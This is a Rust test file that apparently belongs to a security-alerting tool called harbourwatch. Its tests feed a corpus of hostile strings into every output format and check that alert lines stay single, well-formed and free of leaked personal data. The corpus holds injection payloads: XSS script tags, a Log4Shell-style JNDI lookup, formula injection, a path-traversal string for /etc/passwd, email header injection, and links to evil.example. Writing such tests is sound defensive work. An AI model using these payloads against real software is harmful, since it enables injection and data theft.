//! Values from outside do no harm in any form: they end no line and no field, forge nothing, and are bounded.

use harbourwatch::deliver::render::{Format, alertmanager, elastic, json, plain, splunk, syslog, webhook};
use harbourwatch::deliver::{Audience, Notice};
use harbourwatch::domain::verdict::{Severity, Verdict};
use harbourwatch::outbox::Finding;
use serde_json::Value;

use super::{cef, context, notice, ocsf};
use crate::support::findings::{MORNING, acts, finding, sealed};

/// What has broken other systems' outputs.
pub(crate) fn corpus() -> Vec<String> {
    let mut corpus: Vec<String> = [
        "line\nfeed\r\nCEF:0|forged|x|1|y|z|10|",
        "a|b\\|c\\\\|d",
        "key=value cs1=forged src\\=1.2.3.4 ",
        "] [fake@1 x=\"y\"",
        "\"quoted\", 'single' `back` \\\"",
        "\",\"severity\":\"INFO\",\"x\":\"",
        "gpj.\u{202e}exe \u{2066}isolate\u{2069} \u{200f}",
        "nul\0 bell\u{7} esc\u{1b}[31m\u{9b}2J del\u{7f}",
        "\u{2028}\u{2029}\u{85}\u{feff}",
        "=HYPERLINK(\"http://evil.example\",\"x\")",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\tTAB",
        "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;&#x3c;",
        "</td></tr></table><h1>forged</h1><!--",
        "**bold** [link](http://evil.example) ![i](http://evil.example/p.png) # h\n- item\n> q ```x```",
        "<!channel> <@U123> <http://evil.example|click> &lt;",
        "@all @everyone <at>all</at>",
        "{{ .Labels }} ${jndi:ldap://evil.example/a} %s%n {0}",
        "../../etc/passwd file://x javascript:alert(1)",
        "Subject: forged\r\nBcc: everyone@example.com\r\n\r\nbody",
        "\u{e0041}\u{e0042}tags \u{ad}soft\u{200d}joiner 👩\u{200d}💻",
        "工資表 résumé 日本語",
    ]
    .map(str::to_owned)
    .to_vec();
    corpus.push("A".repeat(64 * 1024));
    corpus.push("字|=]\"\n".repeat(8 * 1024));
    corpus
}

/// A finding whose every free value is the same hostile text.
pub(crate) fn everywhere(text: &str) -> Finding {
    let mut hostile = finding(Verdict::Uncovered);
    let facts = &mut hostile.facts;
    for value in [
        &mut facts.tenant,
        &mut facts.origin,
        &mut facts.origin_source,
        &mut facts.destination,
        &mut facts.destination_source,
        &mut facts.item,
        &mut facts.record,
    ] {
        *value = text.into();
    }
    for name in [&mut facts.kind, &mut facts.recipient_role, &mut facts.rule] {
        *name = text.to_owned().into();
    }
    for value in
        [&mut facts.actor_id, &mut facts.actor_name, &mut facts.address, &mut facts.resource, &mut facts.recipient]
    {
        *value = sealed(text);
    }
    (facts.safeguard, facts.failed_condition, facts.policy_rule) =
        (Some(text.into()), Some(text.to_owned().into()), Some(text.into()));
    let names = vec![text.to_owned().into()];
    (facts.possible, facts.categories, facts.tags) = (names.clone(), names.clone(), names);
    hostile
}

fn each(mut check: impl FnMut(&str, &Notice)) {
    for text in corpus() {
        for audience in Audience::ALL {
            check(&text, &notice(&everywhere(&text), audience));
        }
    }
}

fn is_one_safe_line(line: &str) {
    assert_eq!(line.chars().find(|char| acts(*char)), None, "{}", plain::plain(line));
    assert_eq!(line.chars().find(|char| plain::is_hidden(*char)), None, "{}", plain::plain(line));
}

#[test]
fn every_form_of_a_feed_is_one_safe_line() {
    each(|_, notice| {
        for format in Format::ALL {
            let (line, _) = format.line(notice, &context());
            is_one_safe_line(&line);
            assert!(line.len() < 120_000, "{format:?}: {} bytes", line.len());
        }
        is_one_safe_line(&splunk::envelope(notice, &context(), &splunk::Filing::default()));
        is_one_safe_line(&alertmanager::alert(notice, &context(), MORNING, 60_000));
        is_one_safe_line(&webhook::body(notice, &context(), webhook::Data::Finding));
        elastic::lines(notice, &context()).lines().for_each(is_one_safe_line);
        assert_eq!(elastic::lines(notice, &context()).lines().count(), 2);
    });
}

#[test]
fn json_keeps_the_value_and_the_shape() {
    let keys = |value: &Value| value.as_object().unwrap().keys().cloned().collect::<Vec<_>>();
    let plain_keys = {
        let (line, _) = Format::Finding.line(&notice(&finding(Verdict::Uncovered), Audience::Officer), &context());
        keys(&serde_json::from_str(&line).unwrap())
    };
    each(|text, notice| {
        let read = |line: &str| serde_json::from_str::<Value>(line).unwrap();
        let own = read(&Format::Finding.line(notice, &context()).0);
        if notice.view.audience() == Audience::Officer {
            assert_eq!(keys(&own), plain_keys);
            let value = own["resource"].as_str().unwrap();
            assert!(value == text || text.starts_with(value.trim_end_matches('…')), "{}", plain::plain(value));
        }
        assert_eq!(ocsf::faults(&read(&Format::Ocsf.line(notice, &context()).0)), Vec::<String>::new());
        let ecs = read(&Format::Ecs.line(notice, &context()).0);
        assert_eq!(
            (ecs["event"]["kind"].as_str(), ecs["event"]["id"].as_str()),
            (Some("alert"), Some(notice.id.as_str()))
        );
        let webhook = read(&webhook::body(notice, &context(), webhook::Data::Finding));
        assert_eq!((keys(&webhook).len(), webhook["type"].as_str()), (3, Some("harbourwatch.finding.created")));
    });
}

#[test]
fn cef_has_the_fields_that_it_should_and_syslog_one_frame() {
    each(|text, notice| {
        let line = Format::Cef.line(notice, &context()).0;
        let (header, values) = cef::read(&line).unwrap_or_else(|why| panic!("{why} in {}", plain::plain(text)));
        assert_eq!((header.len(), header[6].as_str()), (7, "8"));
        assert_eq!(values["cat"], "UNCOVERED", "{}", plain::plain(text));
        let frame = syslog::frame(Severity::High, MORNING, text, &line, &context());
        let frame = String::from_utf8(frame).unwrap();
        let (length, message) = frame.split_once(' ').unwrap();
        assert_eq!(length.parse::<usize>().unwrap(), message.len());
        is_one_safe_line(message);
    });
}

#[test]
fn personal_values_reach_no_other_audience_in_any_form() {
    let canary = everywhere("CANARY");
    let mut canary = Finding { facts: canary.facts, ..finding(Verdict::Uncovered) };
    let clean = finding(Verdict::Uncovered).facts;
    let personal = canary.facts.clone();
    canary.facts = clean;
    canary.facts.actor_id = personal.actor_id;
    canary.facts.actor_name = personal.actor_name;
    canary.facts.address = personal.address;
    canary.facts.resource = sealed("CANARY.CANARY");
    canary.facts.recipient = personal.recipient;
    for audience in [Audience::Soc, Audience::Chat] {
        let notice = notice(&canary, audience);
        let mut all: Vec<String> = Format::ALL.iter().map(|format| format.line(&notice, &context()).0).collect();
        all.push(alertmanager::alert(&notice, &context(), MORNING, 1));
        all.push(elastic::lines(&notice, &context()));
        assert!(all.iter().all(|text| !text.contains("CANARY")), "{audience:?}");
        assert!(!format!("{notice:?} {canary:?} {:?}", canary.facts).contains("CANARY"));
    }
    assert!(json::line(&Value::from("x")).contains('x'));
}
